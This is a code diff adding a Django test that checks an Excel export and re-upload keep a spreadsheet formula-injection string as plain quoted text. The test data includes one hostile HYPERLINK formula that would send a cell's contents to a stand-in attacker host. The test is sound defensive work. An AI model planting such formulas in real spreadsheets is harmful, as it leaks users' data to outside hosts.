@@ -291,6 +291,24 @@ class TestFlows:
         assert ob.values.get(target=cycle["t_avg"]).value == Decimal("62.5")
         assert ob.results == "Kết quả từ Excel" and ob.task_progress.get().status == "in_progress"
 
+    def test_excel_form_keeps_hostile_text_as_text(self, client_for, reporter_a, cycle):
+        """A saved note "=HYPERLINK(…)" is a string cell in the form and reads back unchanged."""
+        ob = cycle["ob_a"]
+        hostile = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào")'
+        Obligation.objects.filter(pk=ob.pk).update(results=hostile, proposals="+84 1+1")
+        c = client_for(reporter_a)
+        content = c.get(_url("obligation_excel", ob)).content
+        wb = load_workbook(io.BytesIO(content))
+        assert not [cell for ws in wb for row in ws.iter_rows() for cell in row if cell.data_type == "f"]
+        texts = {row[0].value: row[2] for row in wb["Thuyet minh"].iter_rows(min_row=2)}
+        assert texts["results"].value == hostile and texts["results"].data_type == "s" and texts["results"].quotePrefix
+        assert texts["proposals"].value == "+84 1+1"
+        response = c.post(_url("obligation_excel_upload", ob), {"file": SimpleUploadedFile("f.xlsx", content)})
+        assert response.status_code == 200 and not response.context.get("problems")
+        assert c.post(_url("obligation_excel_upload", ob), {"confirm": "1"}).status_code == 302
+        ob.refresh_from_db()
+        assert ob.results == hostile and ob.proposals == "+84 1+1"
+
     def test_excel_bad_upload(self, client_for, reporter_a, cycle):
         ob = cycle["ob_a"]
         c = client_for(reporter_a)
